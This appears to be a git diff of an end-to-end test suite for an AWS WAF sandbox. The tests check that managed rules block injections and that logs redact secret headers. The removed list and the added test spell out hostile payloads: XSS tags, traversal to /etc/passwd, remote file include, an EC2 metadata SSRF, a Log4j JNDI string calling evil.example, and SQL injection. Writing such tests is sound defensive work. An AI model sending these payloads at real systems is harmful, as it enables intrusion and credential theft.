@@ -4,6 +4,7 @@ import { ModifyLoadBalancerAttributesCommand } from "@aws-sdk/client-elastic-loa
 import { DisassociateWebACLCommand } from "@aws-sdk/client-wafv2";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { startSandbox } from "../../sandbox/src/lifecycle/start.ts";
+import { injections, script } from "../_helpers/injections.ts";
 import { createSandboxHome, eventually, type SandboxHome } from "../_helpers/sandbox-home.ts";
 import { createStack, type Stack } from "../_helpers/sandbox-stack.ts";
 import {
@@ -13,17 +14,20 @@ import {
   innerName,
   type WebAcl,
 } from "../_helpers/web-acl.ts";
+import { type LogRecord, logRequests } from "../_helpers/web-acl-log.ts";
 
 const name = "e2e-waf";
 let home: SandboxHome;
 let stack: Stack;
 let acl: WebAcl;
+let readLog: () => Promise<readonly LogRecord[]>;
 
 beforeAll(async () => {
   home = await createSandboxHome();
   const state = await startSandbox(home.deps, { name, region: "us-east-1" });
   stack = await createStack(state);
   acl = await createWebAcl(state);
+  readLog = await logRequests(state, acl);
   await stack.scale("blue", 1);
   await eventually(
     () => stack.health("blue"),
@@ -32,38 +36,6 @@ beforeAll(async () => {
 });
 
 afterAll(() => home.remove(name));
-
-const script = "/?q=%3Cscript%3Ealert(1)%3C/script%3E";
-
-const injections = [
-  ["script in the query", { path: script }, "CrossSiteScripting_QUERYARGUMENTS"],
-  [
-    "script in the path",
-    { path: "/%3Cscript%3Ealert(1)%3C/script%3E" },
-    "CrossSiteScripting_URIPATH",
-  ],
-  [
-    "script in a cookie",
-    { headers: { cookie: "a=<script>alert(1)</script>" } },
-    "CrossSiteScripting_COOKIE",
-  ],
-  ["a file by the query", { path: "/?file=../../../../etc/passwd" }, "GenericLFI_QUERYARGUMENTS"],
-  ["a file by the path", { path: "/static/..%2f..%2f..%2fetc/passwd" }, "GenericLFI_URIPATH"],
-  ["a remote file", { path: "/?page=http://10.1.2.3/shell.txt" }, "GenericRFI_QUERYARGUMENTS"],
-  [
-    "the metadata service",
-    { path: "/?url=http://169.254.169.254/latest/meta-data/" },
-    "EC2MetaDataSSRF_QUERYARGUMENTS",
-  ],
-  [
-    "JNDI in a header",
-    { headers: { "x-version": "${jndi:ldap://evil.example/a}" } },
-    "Log4JRCE_HEADER",
-  ],
-  ["JNDI in the query", { path: "/?q=$%7Bjndi:ldap://evil.example/a%7D" }, "Log4JRCE_QUERYSTRING"],
-  ["a file of the repository", { path: "/.git/config" }, "ExploitablePaths_URIPATH"],
-  ["a scanner", { headers: { "user-agent": "nessus" } }, "UserAgent_BadBots_HEADER"],
-] as const;
 
 test("without a web ACL no engine runs, and injections reach the application", async () => {
   expect(await processes()).not.toContain("waf-engine");
@@ -106,6 +78,30 @@ test("a release's probe is found among the samples by its header", async () => {
   expect(JSON.stringify(found)).not.toContain("s3cret");
 });
 
+test("the log has a record of a blocked request, without its keys, and none of one that passed", async () => {
+  await ask({ path: "/passes" });
+  const keys = { "x-api-key": "s3cret-key", authorization: "Bearer s3cret-token" };
+  await ask({ path: "/?id=1'%20OR%20'1'='1", headers: keys });
+  const [found] = await eventually(
+    async () => (await readLog()).filter(({ httpRequest: { args } }) => args.startsWith("id=1")),
+    (records) => records.some(({ httpRequest }) => JSON.stringify(httpRequest).includes("x-api")),
+  ).then((records) => records.slice(-1));
+  expect(found).toMatchObject({
+    action: "BLOCK",
+    webaclId: acl.arn,
+    terminatingRuleId: "AWSManagedRulesSQLiRuleSet",
+    ruleGroupList: [{ terminatingRule: { ruleId: "SQLi_QUERYARGUMENTS" } }],
+    httpRequest: { uri: "/", args: "id=1'%20OR%20'1'='1" },
+  });
+  const headers = new Map(found?.httpRequest.headers.map((header) => [header.name, header.value]));
+  expect(headers.get("x-api-key")).toBe("REDACTED");
+  expect(headers.get("authorization")).toBe("REDACTED");
+  expect(headers.get("user-agent")).toBe("e2e/1.0");
+  const all = JSON.stringify(await readLog());
+  expect(all).not.toContain("s3cret");
+  expect(all).not.toContain("/passes");
+});
+
 test("predictions pass: a megabyte of numbers, free text with SQL and HTML, no User-Agent", async () => {
   const began = new Date(Date.now() - 1000);
   const numbers = JSON.stringify({ inputs: Array.from({ length: 150_000 }, () => 0.1234) });
@@ -123,6 +119,9 @@ test("predictions pass: a megabyte of numbers, free text with SQL and HTML, no U
   expect(counted).toEqual(
     expect.arrayContaining(["SizeRestrictions_BODY", "CrossSiteScripting_BODY"]),
   );
+  const counts = await acl.samples("AWSManagedRulesSQLiRuleSet", began);
+  expect(new Set(counts.map(innerName))).toEqual(new Set(["SQLi_BODY"]));
+  expect(counts.map(({ Action }) => Action)).not.toContain("BLOCK");
 });
 
 test("CloudWatch has the blocked requests", async () => {
